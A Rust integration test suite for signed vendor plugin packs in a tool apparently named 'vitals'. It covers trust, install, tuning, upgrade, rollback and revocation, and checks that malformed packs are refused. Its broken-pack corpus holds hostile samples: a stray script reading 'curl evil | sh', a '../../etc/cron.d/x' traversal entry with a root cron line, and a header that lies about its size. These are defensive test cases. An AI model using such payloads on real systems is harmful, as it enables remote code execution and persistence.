//! A tenant's side of vendor packs over the real binary and a real store:
//! the operator trusts a vendor key, a tenant installs a signed pack
//! switched on whole, tunes it, upgrades keeping the tuning (after a shadow
//! run), is refused an upgrade its tuning no longer fits and a downgrade,
//! rolls back, and sees revocations flagged; the same over HTTP with the
//! roles checked; and a corpus of broken packs each refused by name with
//! nothing stored. Packs are built in-process with `vitals::pack` (the
//! vendor's commands are `pack_file.rs`'s), every tenant step is a
//! `vitals` process.

use crate::cli::{Cli, FIXTURE};
use crate::served::{Server, json_of, operator_key, tenant_with_keys};
use reqwest::Method;
use serde_json::{Value, json};
use std::path::Path;
use vitals::pack::{self, BuildTools, KeyPairText, PackArchive};

/// Builds like `vitals pack build`, validating with the test runtime;
/// `lenient` accepts anything (to make packs the host must refuse).
struct Tools {
    lenient: bool,
}

impl BuildTools for Tools {
    fn build_source(&mut self, _dir: &Path) -> Result<Vec<u8>, String> {
        Err("components only here".into())
    }

    fn validate(
        &mut self,
        component: &[u8],
        defaults: &Value,
    ) -> Result<vitals::contract::PluginMetadata, String> {
        match crate::common::runtime().load(component) {
            Ok(p) => {
                if !self.lenient {
                    p.check_config(&defaults.to_string())
                        .map_err(|e| e.to_string())?;
                }
                Ok(p.metadata.clone())
            }
            Err(_) if self.lenient => Ok(vitals::contract::PluginMetadata {
                name: "weighted-health".into(),
                version: "0.2.0".into(),
                kind: vitals::contract::PluginKind::HealthModel,
                description: String::new(),
                config_schema: "{}".into(),
                reads: vec![],
            }),
            Err(e) => Err(e.to_string()),
        }
    }
}

/// Pack `acme` at `version`: weighted-health with `health` as its
/// defaults (component `health_bytes`) and lifecycle-segments.
fn build_with(version: &str, health: &Value, health_bytes: &[u8], lenient: bool) -> PackArchive {
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, bytes: &[u8]| std::fs::write(dir.path().join(name), bytes).unwrap();
    write("health.wasm", health_bytes);
    write(
        "segments.wasm",
        vitals_reference_pack::component("lifecycle-segments").unwrap(),
    );
    write("health.json", health.to_string().as_bytes());
    write(
        "README.md",
        b"# Weighted health\nScores usage, support and sentiment.\n",
    );
    write(
        "pack.toml",
        format!(
            "[pack]\nname = \"acme\"\nversion = \"{version}\"\nvendor = \"Acme Analytics\"\n\
             description = \"Health and lifecycle for SaaS\"\n\n\
             [[plugins]]\nwasm = \"health.wasm\"\nconfig = \"health.json\"\nreadme = \"README.md\"\n\n\
             [[plugins]]\nwasm = \"segments.wasm\"\n"
        )
        .as_bytes(),
    );
    pack::build(dir.path(), &mut Tools { lenient }).unwrap()
}

fn build(version: &str, health: Value) -> PackArchive {
    build_with(
        version,
        &health,
        vitals_reference_pack::component("weighted-health").unwrap(),
        false,
    )
}

fn signed(mut archive: PackArchive, key: &KeyPairText) -> Vec<u8> {
    pack::sign(&mut archive, &key.secret, None).unwrap();
    archive.to_bytes()
}

/// A tenant with accounts, and the vendor's key pair with its public key on file.
fn tenant() -> (Cli, KeyPairText, String) {
    let cli = Cli::new();
    cli.ok(&["init"]);
    cli.ok(&[
        "ingest",
        &cli.write("fixture.csv", FIXTURE.as_bytes())
            .display()
            .to_string(),
    ]);
    let key = pack::keygen("acme").unwrap();
    let public = cli
        .write("acme.pub", key.public.as_bytes())
        .display()
        .to_string();
    (cli, key, public)
}

fn file(cli: &Cli, name: &str, bytes: &[u8]) -> String {
    cli.write(name, bytes).display().to_string()
}

/// Fails unless `args` fail with `needle` in the error.
fn refused(cli: &Cli, args: &[&str], needle: &str) {
    let out = cli.run(args);
    assert_ne!(out.code, 0, "{args:?} should fail:\n{}", out.stdout);
    assert!(
        out.stderr.contains(needle),
        "{args:?}: wanted {needle:?} in:\n{}",
        out.stderr
    );
}

fn packs(cli: &Cli) -> Value {
    cli.ok(&["--json", "pack", "list"]).json()
}

fn effective(cli: &Cli) -> Value {
    let shown = cli.ok(&["--json", "pack", "show", "acme"]).json();
    shown["plugins"][0]["effective"].clone()
}

#[test]
fn a_tenant_installs_tunes_upgrades_keeping_the_tuning_and_rolls_back() {
    let (cli, key, public) = tenant();
    let v1 = file(
        &cli,
        "acme-1.0.0.vpack",
        &signed(
            build("1.0.0", json!({"red_below": 40, "yellow_below": 70})),
            &key,
        ),
    );
    // Not trusted yet: refused, naming the key.
    refused(&cli, &["pack", "install", &v1, "--activate"], &key.key_id);
    assert_eq!(packs(&cli), json!([]));
    cli.ok(&["pack", "trust", "add", &public, "--name", "Acme Analytics"]);
    let installed = cli
        .ok(&["--json", "pack", "install", &v1, "--activate"])
        .json();
    assert_eq!(installed["pack"]["active"], "1.0.0");
    assert_eq!(
        installed["change"]["activated"].as_array().unwrap().len(),
        2
    );
    let plugins = cli.ok(&["--json", "plugin", "list"]).json();
    assert!(
        plugins
            .as_array()
            .unwrap()
            .iter()
            .all(|p| p["active"] == true)
    );

    // Tune: a merge patch over the vendor's defaults, live at once.
    cli.ok(&[
        "pack",
        "tune",
        "acme",
        "weighted-health",
        "--set",
        r#"{"red_below": 30}"#,
    ]);
    let e = effective(&cli);
    assert_eq!(
        (e["red_below"].clone(), e["yellow_below"].clone()),
        (json!(30), json!(70))
    );

    // Runs name the pack and version their plugins came from.
    let runs = cli.ok(&["--json", "run", "--as-of", "2026-01-01"]).json();
    for r in runs.as_array().unwrap() {
        assert_eq!(
            r["pack"],
            json!({"name": "acme", "version": "1.0.0"}),
            "{r}"
        );
    }

    // An upgrade: shadow-run first; nothing goes live until activated.
    let v2 = file(
        &cli,
        "acme-1.1.0.vpack",
        &signed(
            build("1.1.0", json!({"red_below": 45, "yellow_below": 80})),
            &key,
        ),
    );
    let shadow = cli.ok(&["pack", "upgrade", &v2, "--shadow"]);
    assert!(shadow.stdout.contains("Shadow run"), "{}", shadow.stdout);
    assert!(
        shadow.stdout.contains("weighted-health"),
        "{}",
        shadow.stdout
    );
    assert_eq!(packs(&cli)[0]["active"], "1.0.0");
    cli.ok(&["pack", "activate", "acme", "1.1.0"]);
    let e = effective(&cli);
    assert_eq!(
        (e["red_below"].clone(), e["yellow_below"].clone()),
        (json!(30), json!(80)),
        "the patch kept, the new default taken"
    );

    // An upgrade the tuning no longer fits: refused naming the field; nothing changed.
    cli.ok(&[
        "pack",
        "tune",
        "acme",
        "weighted-health",
        "--replace",
        "--set",
        r#"{"yellow_below": 50}"#,
    ]);
    let v3 = file(
        &cli,
        "acme-2.0.0.vpack",
        &signed(
            build("2.0.0", json!({"red_below": 60, "yellow_below": 85})),
            &key,
        ),
    );
    refused(&cli, &["pack", "upgrade", &v3, "--activate"], "red_below");
    let listed = &packs(&cli)[0];
    assert_eq!(listed["active"], "1.1.0");
    assert_eq!(listed["versions"], json!(["1.0.0", "1.1.0"]));

    // A downgrade is refused unless asked for.
    let old = file(
        &cli,
        "acme-0.9.0.vpack",
        &signed(build("0.9.0", json!({})), &key),
    );
    refused(
        &cli,
        &["pack", "install", &old, "--activate"],
        "lower than the installed 1.1.0",
    );
    cli.ok(&["pack", "install", &old, "--allow-downgrade"]);
    assert_eq!(packs(&cli)[0]["active"], "1.1.0");

    // Rollback: the earlier version under the same patch, atomically.
    let back = cli.ok(&["--json", "pack", "rollback", "acme"]).json();
    assert_eq!(back["active"], "1.0.0");
    let e = effective(&cli);
    assert_eq!(
        (e["red_below"].clone(), e["yellow_below"].clone()),
        (json!(40), json!(50))
    );

    // Revocation: the running version flagged; a revoked key refused by name.
    cli.ok(&[
        "pack",
        "revoke",
        "--pack",
        "acme",
        "--version",
        "1.0.0",
        "--reason",
        "scores churned accounts green",
    ]);
    let listed = &packs(&cli)[0];
    assert_eq!(listed["revoked"], true);
    assert!(
        listed["flag"]
            .as_str()
            .unwrap()
            .contains("churned accounts green")
    );
    let shown = cli.ok(&["pack", "list"]).stdout;
    assert!(shown.contains("REVOKED"), "{shown}");
    cli.ok(&[
        "pack",
        "revoke",
        "--key",
        &key.key_id,
        "--reason",
        "laptop stolen",
    ]);
    let v4 = file(
        &cli,
        "acme-1.2.0.vpack",
        &signed(build("1.2.0", json!({})), &key),
    );
    refused(&cli, &["pack", "install", &v4], "laptop stolen");
    refused(
        &cli,
        &["pack", "trust", "add", &public, "--name", "again"],
        "revoked",
    );
}

#[test]
fn over_http_the_operator_trusts_and_tenant_admins_install_and_tune() {
    let data = tempfile::tempdir().unwrap();
    let data = data.path().join("data");
    let op = operator_key(&data);
    let s = Server::start(&data);
    let (admin, viewer) = tenant_with_keys(&s, &op, "acme");
    let key = pack::keygen("acme").unwrap();
    let v1 = signed(
        build("1.0.0", json!({"red_below": 40, "yellow_below": 70})),
        &key,
    );
    // Trust is the operator's: a tenant key may neither read nor change it.
    for k in [&admin, &viewer] {
        let (code, _) = json_of(s.call(Method::GET, "/v1/trust", Some(k)).send().unwrap());
        assert_eq!(code, 403);
    }
    let (code, body) = json_of(
        s.call(Method::POST, "/v1/trust/keys", Some(&op))
            .json(&json!({"public_key": key.public, "name": "Acme"}))
            .send()
            .unwrap(),
    );
    assert_eq!(code, 201, "{body}");
    assert_eq!(body["key_id"], key.key_id.as_str());
    let install = |k: &str, bytes: Vec<u8>| {
        json_of(
            s.call(
                Method::POST,
                "/v1/tenants/acme/packs?activate=true",
                Some(k),
            )
            .header("content-type", "application/octet-stream")
            .body(bytes)
            .send()
            .unwrap(),
        )
    };
    assert_eq!(
        install(&viewer, v1.clone()).0,
        403,
        "a viewer installs nothing"
    );
    let (code, body) = install(&admin, v1);
    assert_eq!(code, 201, "{body}");
    assert_eq!(body["pack"]["active"], "1.0.0");
    let (code, body) = json_of(
        s.call(
            Method::PUT,
            "/v1/tenants/acme/packs/acme/plugins/weighted-health/patch",
            Some(&admin),
        )
        .json(&json!({"patch": {"red_below": 33}}))
        .send()
        .unwrap(),
    );
    assert_eq!(code, 200, "{body}");
    assert_eq!(body["plugin"]["effective"]["red_below"], 33);
    assert_eq!(body["live"], true);
    // A broken pack over HTTP: its own code, nothing stored.
    let mut tampered = signed(build("1.1.0", json!({})), &key);
    let at = tampered.len() / 2;
    tampered[at] ^= 0xff;
    let (code, body) = install(&admin, tampered);
    assert_eq!(code, 422, "{body}");
    let (_, listed) = json_of(
        s.call(Method::GET, "/v1/tenants/acme/packs", Some(&viewer))
            .send()
            .unwrap(),
    );
    assert_eq!(listed[0]["versions"], json!(["1.0.0"]));
    // The CLI on the server gives the same view.
    let out = s.cli(&viewer, &["--json", "pack", "show", "acme"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let shown: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(shown["plugins"][0]["patch"], json!({"red_below": 33}));
    assert_eq!(shown["key_name"], "Acme");
    // Every pack route is in the OpenAPI document.
    let (_, doc) = json_of(s.call(Method::GET, "/openapi.json", None).send().unwrap());
    for path in [
        "/v1/tenants/{tenant}/packs",
        "/v1/tenants/{tenant}/packs/{name}",
        "/v1/tenants/{tenant}/packs/{name}/plugins/{plugin}/patch",
        "/v1/trust/keys",
        "/v1/trust/revocations",
    ] {
        assert!(
            doc["paths"].get(path).is_some(),
            "{path} missing from /openapi.json"
        );
    }
    s.stop();
}

/// A pack's entries in archive order: manifest, signature, listed files.
fn entries(archive: &PackArchive) -> Vec<(String, Vec<u8>)> {
    let mut out = vec![(pack::MANIFEST.to_string(), archive.manifest_bytes.clone())];
    if let Some(sig) = &archive.signature {
        out.push((pack::SIGNATURE.to_string(), sig.clone().into_bytes()));
    }
    for f in &archive.manifest.files {
        out.push((f.path.clone(), archive.files[&f.path].clone()));
    }
    out
}

/// A gzip'd tar of raw entries, as a hostile archive would be written:
/// any path, and a header size that may lie (`claimed`) about a body.
fn raw_archive(entries: &[(String, Vec<u8>)], claimed: Option<(&str, u64)>) -> Vec<u8> {
    let mut tar = tar::Builder::new(Vec::new());
    for (path, body) in entries {
        let mut header = tar::Header::new_ustar();
        // set_path refuses `..`: write the name bytes directly.
        header.as_old_mut().name[..path.len()].copy_from_slice(path.as_bytes());
        let size = match claimed {
            Some((p, n)) if p == path => n,
            _ => body.len() as u64,
        };
        header.set_size(size);
        header.set_mode(0o644);
        header.set_entry_type(tar::EntryType::Regular);
        header.set_cksum();
        tar.append(&header, body.as_slice()).unwrap();
    }
    let bytes = tar.into_inner().unwrap();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut gz, &bytes).unwrap();
    gz.finish().unwrap()
}

#[test]
fn broken_packs_are_refused_by_name_and_nothing_is_stored() {
    let (cli, key, public) = tenant();
    cli.ok(&["pack", "trust", "add", &public, "--name", "Acme"]);
    let good = build("1.0.0", json!({"red_below": 40}));
    let good_signed = signed(good.clone(), &key);
    let component = "plugins/weighted-health/component.wasm";
    let mut cases: Vec<(&str, Vec<u8>, String)> = Vec::new();

    let mut changed = good.clone();
    pack::sign(&mut changed, &key.secret, None).unwrap();
    changed.files.get_mut(component).unwrap()[100] ^= 1;
    cases.push((
        "one byte of a component",
        changed.to_bytes(),
        component.into(),
    ));

    let mut manifest = good.clone();
    pack::sign(&mut manifest, &key.secret, None).unwrap();
    manifest.manifest_bytes = String::from_utf8(manifest.manifest_bytes.clone())
        .unwrap()
        .replace("Acme Analytics", "Acme Analytic$")
        .into_bytes();
    cases.push((
        "the manifest changed",
        manifest.to_bytes(),
        "does not match its signature".into(),
    ));

    cases.push((
        "the signature removed",
        good.to_bytes(),
        "not signed".into(),
    ));

    let stranger = pack::keygen("stranger").unwrap();
    cases.push((
        "an untrusted key",
        signed(good.clone(), &stranger),
        stranger.key_id.clone(),
    ));

    let mut signed_good = good.clone();
    pack::sign(&mut signed_good, &key.secret, None).unwrap();
    let mut extra = entries(&signed_good);
    extra.push((
        "plugins/weighted-health/extra.sh".into(),
        b"curl evil | sh".to_vec(),
    ));
    cases.push((
        "a file the manifest does not list",
        raw_archive(&extra, None),
        "extra.sh".into(),
    ));

    let missing: Vec<_> = entries(&signed_good)
        .into_iter()
        .filter(|(p, _)| !p.ends_with("README.md"))
        .collect();
    cases.push((
        "a listed file missing",
        raw_archive(&missing, None),
        "README.md".into(),
    ));

    let not_wasm = build_with("1.0.0", &json!({}), b"\0asm not really", true);
    cases.push((
        "a component that fails validation",
        signed(not_wasm, &key),
        "weighted-health".into(),
    ));

    let off_schema = build_with(
        "1.0.0",
        &json!({"red_below": "low"}),
        vitals_reference_pack::component("weighted-health").unwrap(),
        true,
    );
    cases.push((
        "defaults outside the schema",
        signed(off_schema, &key),
        "red_below".into(),
    ));

    let half = good_signed[..good_signed.len() / 2].to_vec();
    cases.push(("a truncated archive", half, "not a Vitals pack".into()));

    let mut climb = entries(&signed_good);
    climb.push(("../../etc/cron.d/x".into(), b"* * * * * root sh".to_vec()));
    cases.push((
        "a ../ entry",
        raw_archive(&climb, None),
        "escapes the pack".into(),
    ));

    // A 1 GiB entry: its header says so, and it is refused unread (the
    // body is never there to read: memory stays bounded either way).
    let huge = entries(&signed_good);
    cases.push((
        "a 1 GB entry",
        raw_archive(&huge, Some((component, 1 << 30))),
        "over the limit".into(),
    ));

    for (what, bytes, needle) in &cases {
        let path = file(&cli, "broken.vpack", bytes);
        let out = cli.run(&["pack", "install", &path, "--activate"]);
        assert_ne!(out.code, 0, "{what}: installed");
        assert!(
            out.stderr.contains(needle.as_str()),
            "{what}: wanted {needle:?} in:\n{}",
            out.stderr
        );
        assert_eq!(packs(&cli), json!([]), "{what}: a pack was stored");
        assert_eq!(
            cli.ok(&["--json", "plugin", "list"]).json(),
            json!([]),
            "{what}: a plugin was stored"
        );
    }
    // A file larger than any pack (sparse: no disk used) is refused unread.
    let big = cli.write("big.vpack", b"");
    std::fs::File::options()
        .write(true)
        .open(&big)
        .unwrap()
        .set_len(300 << 20)
        .unwrap();
    refused(
        &cli,
        &["pack", "install", &big.display().to_string()],
        "more than a pack can hold",
    );
    assert_eq!(packs(&cli), json!([]));
    // And the good one still installs.
    cli.ok(&[
        "pack",
        "install",
        &file(&cli, "good.vpack", &good_signed),
        "--activate",
    ]);
}
